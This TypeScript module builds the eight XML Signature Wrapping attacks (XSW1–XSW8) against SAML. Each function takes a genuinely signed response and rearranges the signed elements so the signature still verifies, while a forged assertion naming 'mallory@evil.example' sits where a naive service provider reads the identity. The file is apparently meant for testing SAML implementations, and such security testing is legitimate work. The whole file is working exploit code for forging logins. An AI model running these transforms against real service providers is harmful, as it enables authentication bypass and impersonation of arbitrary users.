import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

/**
 * XML signature wrapping variants (Somorovsky et al., "On Breaking SAML", 2012: XSW1-XSW8),
 * built from a genuine signed response. Each moves the signed element somewhere the signature
 * still verifies and puts an attacker's assertion where a naive SP would read it.
 */
const DS = 'http://www.w3.org/2000/09/xmldsig#';
const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol';
export const EVIL = 'mallory@evil.example';

const parse = (xml: string): Document => new DOMParser().parseFromString(xml, 'text/xml');
const ser = (d: Document): string => new XMLSerializer().serializeToString(d);
const kids = (el: Element, local: string): Element[] =>
  Array.from(el.childNodes).filter((n): n is Element => n.nodeType === 1 && (n as Element).localName === local);
const sigOf = (el: Element): Element | undefined => kids(el, 'Signature')[0];
const assertionOf = (root: Element): Element => kids(root, 'Assertion')[0];

function evilize(assertion: Element, newId: string | null): void {
  if (newId) assertion.setAttribute('ID', newId);
  const nameId = assertion.getElementsByTagNameNS('urn:oasis:names:tc:SAML:2.0:assertion', 'NameID')[0];
  while (nameId.firstChild) nameId.removeChild(nameId.firstChild);
  nameId.appendChild(nameId.ownerDocument.createTextNode(EVIL));
}
function withoutSignature(el: Element): Element {
  const c = el.cloneNode(true) as Element;
  const s = sigOf(c);
  if (s) c.removeChild(s);
  return c;
}
function object(doc: Document, child: Node): Element {
  const o = doc.createElementNS(DS, 'ds:Object');
  o.appendChild(child);
  return o;
}

/** Response-level (needs a message-signed response): XSW1 and XSW2. */
export function xsw1(xml: string): string {
  const d = parse(xml);
  const root = d.documentElement;
  const original = withoutSignature(root);
  root.setAttribute('ID', '_evil_response');
  evilize(assertionOf(root), '_evil_assertion');
  const sa = sigOf(assertionOf(root));
  if (sa) assertionOf(root).removeChild(sa);
  sigOf(root)!.appendChild(object(d, original));
  return ser(d);
}
export function xsw2(xml: string): string {
  const d = parse(xml);
  const root = d.documentElement;
  const original = withoutSignature(root);
  root.setAttribute('ID', '_evil_response');
  evilize(assertionOf(root), '_evil_assertion');
  const sa = sigOf(assertionOf(root));
  if (sa) assertionOf(root).removeChild(sa);
  root.insertBefore(original, sigOf(root)!);
  return ser(d);
}

/** Assertion-level (assertion-signed response): XSW3-XSW8. */
export function xsw3(xml: string): string {
  const d = parse(xml);
  const root = d.documentElement;
  const signed = assertionOf(root);
  const evil = withoutSignature(signed);
  evilize(evil, '_evil_assertion');
  root.insertBefore(evil, signed);
  return ser(d);
}
export function xsw4(xml: string): string {
  const d = parse(xml);
  const root = d.documentElement;
  const signed = assertionOf(root);
  const evil = withoutSignature(signed);
  evilize(evil, '_evil_assertion');
  root.replaceChild(evil, signed);
  evil.appendChild(signed);
  return ser(d);
}
export function xsw5(xml: string): string {
  const d = parse(xml);
  const root = d.documentElement;
  const signed = assertionOf(root);
  const copy = withoutSignature(signed);
  evilize(signed, null); // keeps its ID and signature
  root.appendChild(copy);
  return ser(d);
}
export function xsw6(xml: string): string {
  const d = parse(xml);
  const root = d.documentElement;
  const signed = assertionOf(root);
  const copy = withoutSignature(signed);
  evilize(signed, null);
  sigOf(signed)!.appendChild(copy);
  return ser(d);
}
export function xsw7(xml: string): string {
  const d = parse(xml);
  const root = d.documentElement;
  const signed = assertionOf(root);
  const evil = withoutSignature(signed);
  evilize(evil, '_evil_assertion');
  const ext = d.createElementNS(SAMLP, 'samlp:Extensions');
  root.replaceChild(evil, signed);
  ext.appendChild(signed);
  root.insertBefore(ext, kids(root, 'Status')[0]);
  return ser(d);
}
export function xsw8(xml: string): string {
  const d = parse(xml);
  const root = d.documentElement;
  const signed = assertionOf(root);
  const copy = withoutSignature(signed);
  evilize(signed, null);
  sigOf(signed)!.appendChild(object(d, copy));
  return ser(d);
}

export const b64 = {
  decode: (s: string): string => Buffer.from(s, 'base64').toString('utf8'),
  encode: (s: string): string => Buffer.from(s).toString('base64'),
};
